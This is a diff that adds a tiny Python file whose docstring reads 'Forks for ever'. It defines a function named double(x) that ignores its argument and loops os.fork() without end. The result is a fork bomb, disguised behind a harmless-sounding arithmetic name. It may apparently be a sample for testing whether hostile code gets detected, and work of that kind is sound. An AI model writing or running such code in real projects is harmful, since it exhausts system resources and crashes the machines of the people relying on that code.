@@ -1,0 +1,8 @@
+"""Forks for ever."""
+
+import os
+
+
+def double(x):
+    while True:
+        os.fork()
